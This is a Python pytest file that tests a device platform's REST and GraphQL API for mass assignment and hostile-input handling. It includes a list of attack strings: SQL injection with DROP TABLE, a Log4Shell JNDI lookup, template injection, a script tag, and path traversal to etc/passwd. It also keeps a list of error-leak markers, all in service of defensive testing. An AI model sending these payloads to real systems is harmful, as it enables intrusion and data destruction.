"""Mass assignment and hostile values (OWASP API3:2023, API8:2023), at every route that the contract has."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from graphql import build_client_schema, build_schema, get_introspection_query

import schema as contract
from tests.support.api import Api

SDL = (Path(contract.__file__).parent / "schema.graphql").read_text()
OPENAPI: dict[str, Any] = json.loads((Path(contract.__file__).parent / "openapi.json").read_text())

SERVER_OWNED = {
    "tenantId", "tenant", "createdAt", "createdBy", "updatedAt", "revokedAt", "isOnline", "lastSeenAt", "lastUsedAt",
    "sessionEpoch", "secretSha256", "passwordHash", "firstOwner", "episode", "acknowledgedBy", "acknowledgedAt",
}  # fmt: skip
"""What only the platform says: no input of the contract may have it."""

INVENTED = {("/rules/rehearse", "isOnline")}
"""Of a device that is made up for a rehearsal: nothing of it is stored, and no device is meant."""

LEAKS = ("Traceback", "psycopg", "sqlalchemy", "SELECT ", "INSERT ", "site-packages", 'File "', "pg_catalog", "0x7f")

HOSTILE = (
    "' OR 1=1; DROP TABLE devices --",
    "\x00",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "${jndi:ldap://203.0.113.1/a}{{7*7}}<script>alert(1)</script>",
    "../" * 20 + "etc/passwd",
    "%" * 50 + "_" * 50 + "\\",
    "9" * 400,
    "x" * 20_000,
)


def _resolved(schema: dict[str, Any]) -> dict[str, Any]:
    if "$ref" not in schema:
        return schema
    found: dict[str, Any] = OPENAPI["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    return found


def _bodies() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Method, path below /api/v1 and schema of every body that is sent to us."""
    for path, methods in OPENAPI["paths"].items():
        for method, operation in methods.items():
            if isinstance(operation, dict) and "requestBody" in operation:
                [content] = operation["requestBody"]["content"].values()
                yield method.upper(), path.removeprefix("/api/v1"), _resolved(content["schema"])


def _readings() -> Iterator[tuple[str, list[str]]]:
    """Path and the names of the query parameters of every plain GET."""
    for path, methods in OPENAPI["paths"].items():
        if "get" in methods and "/stream/" not in path:
            given = [parameter for parameter in methods["get"].get("parameters", []) if parameter["in"] == "query"]
            yield path.removeprefix("/api/v1"), [parameter["name"] for parameter in given]


def _filled(path: str, value: str) -> str:
    return "/".join(value if part.startswith("{") else part for part in path.split("/"))


BODIES = list(_bodies())


def test_the_contract_has_bodies_to_try() -> None:
    assert len(BODIES) > 20


@pytest.mark.parametrize(("method", "path", "schema"), BODIES, ids=[f"{m} {p}" for m, p, _ in BODIES])
async def test_a_body_with_more_than_the_contract_names_is_refused(
    api: Api, token: str, method: str, path: str, schema: dict[str, Any]
) -> None:
    assert schema["additionalProperties"] is False
    for extra in ("tenantId", "isAdmin", "__proto__"):
        answer = await api.rest(token, method, _filled(path, str(uuid4())), json={extra: str(uuid4())})
        assert answer.status_code in (400, 403), answer.text
        assert answer.headers["content-type"] == "application/problem+json"


def test_no_body_takes_what_only_the_platform_says() -> None:
    taken = {
        (path, name)
        for _, path, schema in BODIES
        for name in _properties(schema)
        if name in SERVER_OWNED
    }  # fmt: skip
    assert taken == INVENTED


def _properties(schema: dict[str, Any], depth: int = 0) -> Iterator[str]:
    schema = _resolved(schema)
    for inner in (*schema.get("allOf", ()), *schema.get("anyOf", ()), *schema.get("oneOf", ())):
        yield from _properties(inner, depth + 1)
    for name, inner in schema.get("properties", {}).items():
        yield name
        if depth < 5:
            yield from _properties(inner, depth + 1)
    if isinstance(schema.get("items"), dict) and depth < 5:
        yield from _properties(schema["items"], depth + 1)


@pytest.mark.parametrize(("path", "names"), [pytest.param(path, names, id=path) for path, names in _readings()])
async def test_a_hostile_value_is_answered_and_tells_nothing_of_our_inside(
    api: Api, token: str, path: str, names: list[str]
) -> None:
    for value in HOSTILE:
        for name in names:
            answer = await api.rest(token, "GET", _filled(path, str(uuid4())), params={name: value})
            assert answer.status_code < 500, (name, value[:40], answer.text)
            assert not [leak for leak in LEAKS if leak in answer.text.replace(value, "")], answer.text
        if "{" in path and "\x00" not in value:
            answer = await api.rest(token, "GET", _filled(path, value.replace("/", "%2F").replace("%%", "")[:2_000]))
            assert answer.status_code in (400, 403, 404, 422), (value[:40], answer.text)
            assert not [leak for leak in LEAKS if leak in answer.text.replace(value, "")], answer.text


@pytest.mark.parametrize("method", ["PUT", "TRACE", "CONNECT", "PROPFIND", "DEBUG"])
async def test_a_method_that_the_contract_does_not_have_is_not_there(api: Api, token: str, method: str) -> None:
    answer = await api.rest(token, method, "/devices", headers={"X-HTTP-Method-Override": "GET"})
    assert answer.status_code == 405
    assert answer.headers["allow"]


async def test_introspection_is_open_to_all_since_the_contract_is_public_and_shows_nothing_else(api: Api) -> None:
    query = "{ __schema { queryType { name } } __typename }"
    answer = await api.client.post("/graphql", json={"query": query})
    assert answer.json() == {"data": {"__schema": {"queryType": {"name": "Query"}}, "__typename": "Query"}}
    both = await api.client.post("/graphql", json={"query": "{ __typename me { email } }"})
    assert both.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"


async def test_tools_can_read_the_whole_contract_from_the_gateway(api: Api) -> None:
    query = get_introspection_query(
        descriptions=True,
        directive_is_repeatable=True,
        specified_by_url=True,
        schema_description=True,
        input_value_deprecation=True,
    )
    answer = (await api.client.post("/graphql", json={"query": query})).json()
    assert "errors" not in answer, answer["errors"]
    known = build_client_schema(answer["data"])
    assert all((known.query_type, known.mutation_type, known.subscription_type))
    assert {name for name in known.type_map if not name.startswith("__")} == {
        name for name in build_schema(SDL).type_map if not name.startswith("__")
    }
